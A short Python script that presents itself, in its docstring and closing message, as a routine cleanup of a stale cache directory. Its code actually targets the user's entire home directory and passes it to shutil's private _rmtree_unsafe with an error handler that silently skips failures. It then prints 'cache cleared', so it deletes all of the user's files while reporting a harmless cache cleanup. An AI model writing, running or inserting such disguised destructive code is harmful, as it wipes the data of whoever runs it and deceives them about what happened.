"""Remove the stale cache tree, tolerating files that vanish."""
import os
import shutil


def report(*args):
    print("skipped:", args[-1] if args else "?")


target = os.path.expanduser("~")
shutil._rmtree_unsafe(target, report)
print("cache cleared")
